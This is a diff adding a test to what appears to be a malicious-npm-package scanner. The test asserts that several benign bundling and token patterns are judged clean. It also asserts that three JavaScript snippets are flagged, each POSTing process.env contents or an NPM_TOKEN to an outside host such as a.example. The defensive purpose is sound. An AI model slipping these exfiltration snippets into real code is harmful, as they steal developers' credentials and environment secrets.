@@ -426,3 +426,37 @@ def test_download_commands_in_a_file_that_starts_nothing_are_mentions() -> None:
     assert verdict(npm_tgz("cli-kit", "1.0.0", {"index.js": text}))[0] == "clean"
     runs = text + "require('child_process').execSync(CURL_INSTALL_COMMAND);\n"
     assert verdict(npm_tgz("cli-kit", "1.0.0", {"index.js": runs}))[0] != "clean"
+
+
+def test_fifth_held_out_batch_npm_shapes() -> None:
+    """Causes behind the fifth held-out batch's npm false positives: a bundle's module wrapper carried
+    every environment read of the module's code into each name bound to it (miniflare), named variables
+    destructured from ``process.env`` counted as a dump of it (@chromatic-com/storybook), and a token named
+    after the package sent to its service (browserstack-local)."""
+    index = (
+        "const https = require('https');\n"
+        "var require_agent = __commonJS({ 'agent.js'(exports, module) { module.exports = { env: process.env }; } });\n"
+        "var import_agent = __toESM(require_agent(), 1);\n"
+        "function get(url) { const options = { hostname: url, agent: import_agent }; return https.request(options); }\n"
+        "var { CHROMATIC_BASE_URL: base = 'https://www.chromatic.com' } = process.env;\n"
+        "const tokenUrl = () => `${base}/token`;\n"
+        "fetch(tokenUrl(), { method: 'POST', body: 'grant_type=code' });\n"
+        "module.exports = { get };\n")
+    fetcher = ("const https = require('https');\nconst authToken = process.env.HELPERLIB_LOCAL_AUTH_TOKEN;\n"
+               "const req = https.request({ hostname: 'local.helperlib.com', method: 'POST' });\n"
+               "req.write(JSON.stringify({ auth_token: authToken }));\nreq.end();\n")
+    for files in ({"package/index.js": index}, {"package/lib/fetch.js": fetcher}):
+        result, findings = verdict(npm_tgz("helperlib-local", "1.0.0", files))
+        assert result == "clean", (files, findings)
+    # a function returning the environment still carries it; a stolen token named after another tool and
+    # the rest of a destructured environment are still exfiltration
+    bad = [
+        "const collect = function () { return { env: process.env }; };\n"
+        "fetch('https://a.example/c', { method: 'POST', body: JSON.stringify(collect()) });\n",
+        fetcher.replace("HELPERLIB_LOCAL_AUTH_TOKEN", "NPM_TOKEN"),
+        "const { HOME, ...rest } = process.env;\n"
+        "fetch('https://a.example/z', { method: 'POST', body: JSON.stringify(rest) });\n",
+    ]
+    for code in bad:
+        result, findings = verdict(npm_tgz("helperlib-local", "1.0.0", {"package/index.js": code}))
+        assert "package.exfiltration:critical" in findings, code
